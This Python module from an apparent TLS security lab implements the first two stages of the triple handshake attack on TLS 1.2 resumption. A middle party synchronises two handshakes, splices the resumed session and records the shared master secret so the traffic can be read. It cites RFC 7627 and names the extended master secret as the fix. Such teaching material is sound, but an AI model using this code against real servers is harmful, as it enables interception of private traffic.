"""`resumption-splice`: two sessions with one secret, joined by resuming them; the triple handshake's first two stages.

In stage one Alice stands between teller and bank with a certificate of her own and makes both handshakes agree on
randoms, session id and pre-master secret: both refuse each other's evidence, and both keep a session. In stage two the
teller resumes, Alice passes every octet on untouched, and teller and bank find themselves in one channel whose keys
she has. (The lab's switch for resumption is on; without it no end of ours resumes anything.)
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from trustlab import tls
from trustlab.attacks.alice.legs import TowardsClient
from trustlab.attacks.alice.middle import Middle
from trustlab.attacks.alice.tools import Alice
from trustlab.attacks.attack import Assumptions, Attack

if TYPE_CHECKING:
    from trustlab.cloud import Guest
    from trustlab.wire import Endpoint, WireConnection

ATTACK = Attack(
    name="resumption-splice",
    needs=(
        "owns the network between the VMs",
        "a CA that validates names across that network",
        "ends that resume TLS 1.2 sessions, without the extended master secret",
    ),
    steps=(
        "makes two handshakes agree on randoms, session id and pre-master secret",
        "lets the teller resume its session, with the bank, octet for octet",
        "reads along: the master secret is the one she knows",
    ),
    breaks="authenticity",
    why="A resumed handshake shows no certificate and no evidence; it rests on a secret that two sessions may share.",
    source="RFC 7627, 1; Bhargavan et al., Triple Handshakes (2014)",
    stopped_by="the session hash in the master secret; no resumption without evidence anew",
    assumes=Assumptions(resumes=True),
    tls="1.2",
)

ATTACKS = (ATTACK,)


def start(guest: Guest) -> None:
    """Stand in the middle for the first connection, and pass the later ones through."""
    alice = Alice(guest, ATTACK)
    identity = alice.rogue_identity()
    first: list[SynchronisingMiddle] = []

    def accept(connection: WireConnection) -> Endpoint:
        if first:
            sentence = f"passes {connection.name} through to the bank, and reads it with the secret she has."
            alice.tell("splice", sentence)
            return spliced(alice, connection, first[0].master)
        alice.tell("synchronise", "makes the session with the teller and the one with the bank the same.")
        first.append(SynchronisingMiddle(alice, connection, own=identity))
        return first[0]

    alice.take_place(accept)


class Synchroniser(TowardsClient):
    """Gives the bank's session id to the teller too, and remembers the master secret."""

    master = b""

    def handle(self, event: tls.Event) -> None:
        """Remember the master secret."""
        if isinstance(event, tls.SecretDerived) and event.label == "master_secret":
            self.master = event.value
        super().handle(event)

    def own_hello(self, own: tls.ServerHello, servers: tls.ServerHello) -> tls.ServerHello:
        """Copy the session id as well."""
        return replace(super().own_hello(own, servers), session_id=servers.session_id)


class SynchronisingMiddle(Middle):
    """Makes both of its handshakes agree on all that goes into a session."""

    leg_towards_client = Synchroniser

    @property
    def master(self) -> bytes:
        """The master secret of both sessions; nothing as long as there is none."""
        return self.leg.master if isinstance(self.leg, Synchroniser) else b""


class Through:
    """One end of a wire that is only passed through."""

    def __init__(self) -> None:
        self.closed = False
        self.other: Through | None = None
        self.out = b""

    def receive(self, data: bytes) -> None:
        """Give it to the other end."""
        if self.other is not None:
            self.other.out += data

    def data_to_send(self) -> bytes:
        """Return what the other end was given."""
        out, self.out = self.out, b""
        return out

    def eof_received(self) -> None:
        """Close both."""
        self.closed = True
        if self.other is not None:
            self.other.closed = True


class Eavesdropper(Through):
    """The teller's end of it: notes whose randoms the known secret now goes with."""

    def __init__(self, alice: Alice, connection: str, master: bytes) -> None:
        super().__init__()
        self._party = alice.guest.party
        self._connection = connection
        self._master = master
        self._heard = b""

    def receive(self, data: bytes) -> None:
        """Note the client's random as it passes."""
        if not self._heard:
            record = tls.split_records(data)[0][0]
            hello = tls.parse_message(record.content_type, record.fragment)
            self._heard = data
            if isinstance(hello, tls.ClientHello):
                self._party.secret(
                    "master_secret",
                    self._master,
                    connection=self._connection,
                    label="CLIENT_RANDOM",
                    client_random=hello.random.hex(),
                )
        super().receive(data)


def spliced(alice: Alice, connection: WireConnection, master: bytes) -> Eavesdropper:
    """Join the teller's connection to one of Alice's to the bank, octet for octet."""
    near, far = Eavesdropper(alice, connection.name, master), Through()
    near.other, far.other = far, near
    alice.connect(lambda _name: far, to=connection.server.name)
    return near
